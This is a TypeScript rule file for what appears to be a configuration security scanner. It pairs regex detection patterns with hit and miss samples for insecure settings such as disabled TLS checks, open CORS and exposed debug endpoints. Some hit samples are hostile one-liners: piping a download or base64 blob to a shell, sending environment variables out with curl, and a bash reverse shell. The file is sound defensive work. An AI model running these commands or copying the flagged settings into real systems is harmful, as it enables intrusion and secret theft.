import type { SettingRow } from '../setting.ts';
import { rowsOf } from '../setting-row.ts';

/** Settings of applications and what they are built on, by the names their makers gave them. */
export const applicationRows: readonly SettingRow[] = [
  ...rowsOf('infra-protection', ['application'], {
    'a way round the login or a check': {
      pattern:
        /^\s*["']?[\w.-]*\b(verify[-_]?(ssl|tls|peer|host|cert\w*)|ssl[-_]?verify|tls[-_]?verify|validate[-_]?(issuer|audience|lifetime|certs?)|ValidateIssuerSigningKey|RequireHttpsMetadata|bruteForceProtected|csrf[-_]?(enabled|protection)|web[-_]?security|contextIsolation)["']?\s*[:=]\s*["']?(false|no|off|0)\b/i,
      hit: 'verify_ssl: false',
      miss: 'verify_ssl: true',
    },
    'a side that is not checked': {
      pattern:
        /\b(insecure[-_]?skip[-_]?(tls[-_]?)?verify|skip[-_]?(tls|ssl)[-_]?(verify|verification|validation)|tls[-_]?skip[-_]?verify|accept[-_]?invalid[-_]?certs|allow[-_]?self[-_]?signed|disable[-_]?(tls|ssl)[-_]?verif\w+|trustAll(Certs|Certificates)?)["']?\s*[:=]\s*["']?(true|yes|on|1)\b|\bTrustServerCertificate\s*=\s*(true|yes)\b|\bsslmode=(disable|allow)\b/i,
      hit: 'insecure_skip_verify = true',
      miss: 'insecure_skip_verify = false',
    },
    'pages that tell everybody what went wrong inside': {
      pattern:
        /^\s*(display_errors|display_startup_errors|html_errors|expose_php)\s*=\s*["']?(on|1|stdout)\b|\binclude-(stacktrace|binding-errors)["']?\s*[:=]\s*["']?always\b|<customErrors\s[^>]*mode="Off"|<compilation\s[^>]*debug="true"/i,
      hit: 'display_errors = On',
      miss: 'display_errors = Off',
    },
    'files and code from other machines': {
      pattern:
        /^\s*(allow_url_(fopen|include)|enable_dl|cgi\.fix_pathinfo|phar\.readonly\s*=\s*(off|0)|session\.use_trans_sid)\s*=\s*["']?(on|1)\b|^\s*phar\.readonly\s*=\s*["']?(off|0)\b/i,
      hit: 'allow_url_include = On',
      miss: 'allow_url_include = Off',
    },
    'a cookie that scripts or other pages can use': {
      pattern:
        /^\s*session\.(cookie_(httponly|secure)|use_strict_mode|use_only_cookies)\s*=\s*["']?(off|0|false)?["']?\s*$|^\s*session\.cookie_samesite\s*=\s*["']?none\b/i,
      hit: 'session.cookie_httponly = Off',
      miss: 'session.cookie_httponly = On',
    },
    'code of strangers with the rights of the program': {
      pattern:
        /"(nodeIntegration\w*|enableRemoteModule|allowRunningInsecureContent|dangerousDisableAssetCspModification|dangerousRemoteDomainIpcAccess|withGlobalTauri)"\s*:\s*(true|\[)|"csp"\s*:\s*(null|""|"[^"]*(unsafe-eval|default-src[^;"]*\s\*))/,
      hit: '"nodeIntegration": true',
      miss: '"nodeIntegration": false',
    },
    'a policy for scripts that lets everything in': {
      pattern: /\b(script-src|default-src)\b[^;"\n]*\s('unsafe-eval'|\*|https?:|data:)(?=[\s;"']|$)/i,
      hit: "csp: default-src *; img-src 'self'",
      miss: "csp: default-src 'self'; img-src *",
    },
    'a login by password where only keys were meant': {
      pattern:
        /^\s*(ssh_pwauth\s*:\s*(true|yes|1)|disable_root\s*:\s*(false|no|0)|lock_passwd\s*:\s*(false|no)|plain_text_passwd\s*:\s*\S|chpasswd\s*:\s*\{?\s*expire\s*:\s*false)\b/i,
      hit: 'ssh_pwauth: true',
      miss: 'ssh_pwauth: false',
    },
  }),
  ...rowsOf('infra-exposure', ['application'], {
    'every page of the inside to the outside': {
      pattern:
        /\bexposure[.\s]*include["']?\s*[:=]\s*["']?\*|\bmanagement\.security\.enabled\s*=\s*false|\bh2[.-]console\.enabled\s*[:=]\s*true|\bweb-allow-others["']?\s*[:=]\s*["']?true/i,
      hit: 'management.endpoints.web.exposure.include=*',
      miss: 'management.endpoints.web.exposure.include=health',
    },
    'all pages of the inside to the outside': {
      pattern: /^\s*include\s*:\s*["']?\*["']?\s*$/,
      under: /exposure\s*:/,
      hit: 'exposure:\n  include: "*"',
      miss: 'files:\n  include: "*"',
    },
    'every other site, with the cookies of the reader': {
      pattern:
        /(Access-Control-Allow-Origin|allowed[-_.]?origins?|allow[-_]?origins?|cors[-_.]?origins?|["']?origins)["']?\s*[:=\s]\s*\[?\s*["']?\*["']?/i,
      was: /(origin|Origin)\w*["']?\s*[:=\s]\s*\[?\s*["']?https?:/,
      hit: 'allowed-origins: "*"',
      miss: 'allowed-origins: https://acme.dev',
    },
  }),
  ...rowsOf('infra-fetch', ['application', 'unit', 'cron', 'ansible', 'script', 'pipeline', 'workflow'], {
    'a script that is fetched and run at once': {
      pattern:
        /\b(curl|wget|fetch|iwr|invoke-webrequest)\b[^\n]{0,300}(\|\s*(sudo\s+)?(\S*\/)?((ba|z|da|k)?sh|node|python\d?|perl|ruby|php|iex)\b|(&&|;)\s*(sudo\s+)?((ba|z|da)?sh\s+\S|chmod\s+\S*x|\.\/|\/tmp\/))|\b(ba|z)?sh\s+(-c\s+)?["']?(<\(|\$\()\s*(curl|wget)\b/i,
      hit: 'ExecStartPre=/bin/sh -c "wget -qO- http://acme.dev/a | sh"',
      miss: 'ExecStartPre=/bin/sh -c "wget -qO- http://acme.dev/a | jq ."',
    },
    'a program that is hidden in a text': {
      pattern:
        /\bbase64\s+(-d|-D|--decode)\b[^\n]*\|\s*(\w+\s+(-\w+\s*)*\|\s*)?(sudo\s+)?(\S*\/)?((ba|z|da)?sh|python\d?|perl|node|eval)\b|\bxxd\s+-r\b[^\n]*\|\s*(\S*\/)?(ba)?sh\b|\beval\s+["']?\$\([^)]*\b(base64|curl|wget|xxd)\b/,
      hit: 'base64 -d a.txt | xz -dc | /bin/sh',
      miss: 'base64 -d a.txt | xz -dc | wc',
    },
    'a way out for what the environment holds': {
      pattern:
        /\b(env|printenv|set)\b[^\n]{0,40}\|\s*(base64|curl|nc|xxd|gzip)\b|\b(curl|wget|nc)\b[^\n]*(\$\((env|printenv|cat\s+\S*(\.env|id_rsa|credentials|\.netrc|shadow|secrets?)\S*)|@\S*(\.env|id_rsa|credentials|\.netrc|\.npmrc)\b)/,
      hit: 'curl -d "$(env)" https://acme.dev',
      miss: 'curl -d "$(date)" https://acme.dev',
    },
    'a program from a place without a name': {
      pattern: /\b(bash|sh)\s+-i\s+>&\s*\/dev\/(tcp|udp)\/|\bnc\b[^\n]*\s-e\s+\S*sh\b|\/dev\/tcp\/\d/,
      hit: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
      miss: 'bash -i a.sh > /dev/null',
    },
    'a command that runs as soon as a folder is opened': {
      pattern: /"runOn"\s*:\s*"folderOpen"/,
      hit: '"runOptions": { "runOn": "folderOpen" }',
      miss: '"runOptions": { "runOn": "default" }',
    },
  }),
  ...rowsOf('infra-protection', ['script', 'dockerfile', 'ansible', 'pipeline', 'workflow', 'cron', 'unit'], {
    'a side or a signature that is not checked': {
      pattern:
        /\s--?(skip-tls-verify\w*|skip-tls-verify-pull|insecure-(registry|pull|policy|skip-verify|skip-tls-verify)|tls-verify[= ](false|0)|disable-content-trust(=true)?|no-verify-ssl|no-check-certificate|ssl-no-revoke|no-gpg-check\w*|nogpgcheck|no-signature-verif\w*|force-bad-verify|allow-(unsigned|downgrades?|unauthenticated|insecure-repositories|untrusted)|insecure-ignore-tlog|skip-verif\w*|ignore-certificate-errors|verify[= ](no|false|none)|no-verify-certificates?|accept-new-host-key)\b(?!=false)|\bcosign\s+verify\b.*--insecure\S*|\bgit\s+(commit|push)\b[^\n]*--no-verify\b|\bStrictHostKeyChecking[= ](no|off)\b|\bUserKnownHostsFile[= ]\/dev\/null/,
      hit: '/kaniko/executor --skip-tls-verify --destination a',
      miss: '/kaniko/executor --skip-unused-stages --destination a',
    },
    'a check of modules that is off': {
      pattern:
        /\b(GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOPRIVATE|GONOPROXY)["']?\s*[:=]\s*["']?(\*|1)["']?\s*$|\bGOSUMDB["']?\s*[:=]\s*["']?off\b|\bGOFLAGS["']?\s*[:=]\s*["']?[^"'\n]*-insecure\b|\bgo\s+env\s+-w\s+GO(SUMDB=off|FLAGS=-insecure|NOSUMDB=\*)|\bDOCKER_CONTENT_TRUST["']?\s*[:=]\s*["']?0\b|\b(HUSKY|COSIGN_VERIFY|NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl|UV_INSECURE_HOST|PIP_TRUSTED_HOST)["']?\s*[:=]\s*["']?(false|https?:|\w+\.\w)/,
      hit: 'export UV_INSECURE_HOST=acme.dev',
      miss: 'export UV_INSECURE_HOST=',
    },
    'a program that is built without its guards': {
      pattern:
        /(^|\s)(-fno-stack-protector|-no-pie|-fno-pie|-z\s*,?\s*execstack|-Wl,-z,(execstack|norelro|lazy)|-U_FORTIFY_SOURCE|-D_FORTIFY_SOURCE=0|-fcf-protection=none|\/GS-|\/NXCOMPAT:NO|\/DYNAMICBASE:NO|-fno-sanitize=\S+)(?=\s|$)/,
      hit: 'LDFLAGS += -no-pie',
      miss: 'LDFLAGS += -pie',
    },
  }),
  ...rowsOf('infra-weak', ['pipeline', 'workflow'], {
    'a store of parts that a stranger can fill': {
      pattern:
        /^\s*(-\s+)?key\s*:.*(github\.(head_ref|actor|event\.(pull_request|issue))|CI_COMMIT_REF_(NAME|SLUG)|CI_MERGE_REQUEST_SOURCE)/,
      was: /hashFiles|checksum|^\s*files\s*:/,
      hit: 'key: cargo-\u0024{{ github.head_ref }}',
      miss: "key: cargo-\u0024{{ hashFiles('Cargo.lock') }}",
    },
    'a key among the files that are built': {
      pattern:
        /\b(echo|printf|cat)\b.*\$\{?\w*(KEY|TOKEN|SECRET|PASSWORD|CREDENTIALS?)\w*\}?["']?\s*>\s*["']?(?!\/|~|\$|&)\S+/i,
      was: /\brm\s+-\w*f|\bshred\b|>\s*["']?(\/tmp|\/dev\/shm|\/run)\//,
      hit: 'printf "$SIGNING_KEY" > key.bin',
      miss: 'printf "$SIGNING_KEY" > /tmp/key.pem',
    },
    'all files of the place of work, with those that are hidden': {
      pattern:
        /^\s*(-\s+)?(path\s*:\s*["']?(\.|\*\*?|\.\/|\*\*\/\*)["']?\s*$|include-hidden-files\s*:\s*["']?true\b)/,
      was: /^\s*(-\s+)?path\s*:\s*["']?[\w.]*\w\/\w|include-hidden-files\s*:\s*["']?false/,
      hit: 'include-hidden-files: true',
      miss: 'include-hidden-files: false',
    },
  }),
  ...rowsOf('infra-exposure', ['server'], {
    'a way out of the folder, by a name without its last stroke': {
      pattern: /^\s*location\s+(\^~\s+)?\/[\w./-]*\w\s*\{/,
      below: /^\s*alias\s+\S*\/\s*;/,
      hit: 'location /static {\n  alias /srv/static/;',
      miss: 'location /static/ {\n  alias /srv/static/;',
    },
  }),
  ...rowsOf('infra-weak', ['server'], {
    'a list of all files of a place': {
      pattern: /^\s*file_server\s+.*\bbrowse\b|^\s*browse\s*(\{|$)|^\s*dir-listing\.activate\s*=\s*"enable"/,
      was: /file_server\s*$|\brespond\b|\bhide\b/,
      hit: 'file_server browse',
      miss: 'file_server',
    },
  }),
  ...rowsOf('infra-exposure', ['compose'], {
    'a store to the net outside': {
      pattern:
        /^\s*-\s*["']?\d+:(1433|1521|2375|2379|3306|5432|5984|6379|8086|9042|9200|11211|27017)["']?\s*$/,
      hit: '- "5432:5432"',
      miss: '- "8080:8080"',
    },
  }),
  ...rowsOf('infra-exposure', ['application'], {
    'the inside of a running program': {
      pattern:
        /\binclude["']?\s*[:=].*\b(env|heapdump|threaddump|shutdown|jolokia|configprops|httptrace|loggers)\b/,
      hit: 'management.endpoints.web.exposure.include=health,heapdump',
      miss: 'management.endpoints.web.exposure.include=health,info',
    },
  }),
  ...rowsOf('infra-permission', ['workflow'], {
    'people whom nobody knows': {
      pattern: /\b(FIRST_TIME_CONTRIBUTOR|FIRST_TIMER|MANNEQUIN)\b|["']NONE["']/,
      hit: "contains('OWNER FIRST_TIMER', github.event.comment.author_association)",
      miss: "contains('OWNER MEMBER', github.event.comment.author_association)",
    },
  }),
  ...rowsOf('infra-privilege', ['unit'], {
    'folders of the machine that a service may write': {
      pattern:
        /^\s*(ReadWritePaths|BindPaths|ReadWriteDirectories)\s*=\s*\/(etc|usr|root|home|var|boot)?\s*$/,
      hit: 'ReadWritePaths=/',
      miss: 'ReadWritePaths=/var/lib/app',
    },
  }),
];
